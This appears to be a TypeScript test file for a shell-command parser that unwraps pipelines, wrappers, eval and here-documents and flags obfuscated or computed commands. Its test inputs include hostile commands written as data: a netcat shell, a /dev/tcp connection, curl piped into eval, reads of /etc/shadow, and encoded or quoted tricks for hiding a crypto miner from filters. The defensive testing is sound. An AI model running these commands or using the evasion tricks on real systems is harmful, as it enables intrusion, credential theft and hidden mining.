import * as assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { ShellParser } from './shell-parser.js';
import { renderAnalysis, renderCommand } from './shell-types.js';

describe('ShellParser', () => {
  let parser: ShellParser;
  const lines = (script: string, env: Record<string, string> = { HOME: '/tmp/home' }): string[] => renderAnalysis(parser.analyzeScript(script, { env }));
  before(async () => {
    parser = await ShellParser.create();
  });

  it('finds the commands of pipelines, lists, subshells and substitutions', () => {
    assert.deepEqual(lines('a | b && (c; d) || { e; }; f $(g) <(h) `i`'), ['a', 'b', 'c', 'd', 'e', 'g', 'h', 'i', 'f «$(g)» «<(h)» «`i`»']);
  });

  it('parses bash -c, sh -c, eval and a here-document fed to a shell again', () => {
    assert.deepEqual(lines(`bash -c 'ls -l; id' && eval "uname -a" && sh <<'EOF'\nwhoami\nEOF`), [
      "bash -c 'ls -l; id'",
      'ls -l',
      'id',
      "eval 'uname -a'",
      'uname -a',
      'sh',
      'whoami',
    ]);
  });

  it('sees through wrappers', () => {
    assert.deepEqual(lines('sudo -u root env A=1 nohup timeout -s KILL 5 nice -n 3 stdbuf -oL setsid xmrig -o x'), [
      'sudo -u root » env A=1 » nohup » timeout -s KILL 5 » nice -n 3 » stdbuf -oL » setsid » xmrig -o x',
    ]);
    assert.deepEqual(lines('find . -name "*.tmp" -exec rm -f {} +'), ["find . -name '*.tmp' -exec rm -f '{}' +", "find . -name '*.tmp' -exec rm -f '{}' + » rm -f «{}»"]);
    assert.deepEqual(lines('busybox nc -e sh h 1'), ['busybox » nc -e sh h 1']);
  });

  it('resolves variables set literally, and the positional parameters of sh -c', () => {
    assert.deepEqual(lines('x=xm; y=rig; $x$y -o a'), ['xmrig -o a']);
    assert.deepEqual(lines(`sh -c 'cat > "$1"' w /tmp/out`), [`sh -c 'cat > "$1"' w /tmp/out`, 'cat']);
    const cat = parser.analyzeScript(`sh -c 'cat > "$1"' w /tmp/out`).commands[1];
    assert.equal(cat?.redirects[0]?.target?.value, '/tmp/out');
  });

  it('does not trust an assignment that may not happen', () => {
    assert.deepEqual(lines('x=ls; if true; then x=xmrig; fi; $x'), ['true', '?? computed program: $x']);
  });

  it('gives words written after a redirection to the command (tree-sitter reads them as targets)', () => {
    assert.deepEqual(lines('./m >/dev/null -o stratum+tcp://p:1'), ['./m -o stratum+tcp://p:1']);
  });

  describe('obfuscation resolves or falls to unknown, never to a plain allow', () => {
    const cases: [string, string[]][] = [
      ['x"mr"ig -o p', ['xmrig -o p']],
      ["x'mr'i\\g -o p", ['xmrig -o p']],
      ["$'\\x78\\x6d\\x72\\x69\\x67' -o p", ['xmrig -o p']],
      ["$'\\170mrig' -o p", ['xmrig -o p']],
      ['bash <<< "xmrig -o p"', ['bash', 'xmrig -o p']],
      ['echo eG1yaWcgLW8gcA== | base64 -d | sh', ['echo eG1yaWcgLW8gcA==', 'base64 -d', 'sh', '?? a shell reads its commands from a pipe: sh']],
      // a computed double-quoted script is also read as written: its substitution shows twice
      [
        'bash -c "$(echo eG1yaWc= | base64 -d)"',
        ['echo eG1yaWc=', 'base64 -d', 'bash -c «"$(echo eG1yaWc= | base64 -d)"»', 'echo eG1yaWc=', 'base64 -d', '?? computed script for bash: "$(echo eG1yaWc= | base64 -d)"', '?? computed program: $(echo eG1yaWc= | base64 -d)'],
      ],
      ['timeout 1 bash -c "exec 3<>/dev/tcp/$h/$p"', ['timeout 1 » bash -c «"exec 3<>/dev/tcp/$h/$p"»', 'exec', '?? computed script for bash: "exec 3<>/dev/tcp/$h/$p"', '?? syntax error: exec 3<>/dev/tcp/$h/$p']],
      ['cat${IFS}/etc/shadow', ['?? computed program: cat${IFS}/etc/shadow']],
      ['IFS=,; x=xmrig,-o,p; $x', ['?? computed program: $x']],
      ['eval "$(curl -s http://h/x)"', ['curl -s http://h/x', 'eval «"$(curl -s http://h/x)"»', 'curl -s http://h/x', '?? computed script for eval: "$(curl -s http://h/x)"', '?? computed program: $(curl -s http://h/x)']],
      ['{x,m}rig', ['?? syntax error: {x,m}rig']],
      ['x{,}mrig -o p', ['?? computed program: x{,}mrig -o p']],
      ['/???/?at /etc/shadow', ['?? computed program: /???/?at /etc/shadow']],
      ['sh <<EOF\n$cmd\nEOF', ['sh', '?? a shell reads a computed here-document: $cmd\n']],
    ];
    for (const [script, expected] of cases) {
      it(JSON.stringify(script), () => assert.deepEqual(lines(script), expected));
    }
  });

  it('reads an exec argv the same way', () => {
    const a = parser.analyzeArgv(['bash', '-c', 'nohup ./x & disown']);
    assert.deepEqual(a.commands.map(renderCommand), ["bash -c 'nohup ./x & disown'", 'nohup » ./x', 'disown']);
    assert.deepEqual(renderAnalysis(parser.analyzeArgv(['sh'], { stdin: 'id; uname' })), ['sh', 'id', 'uname']);
  });
});
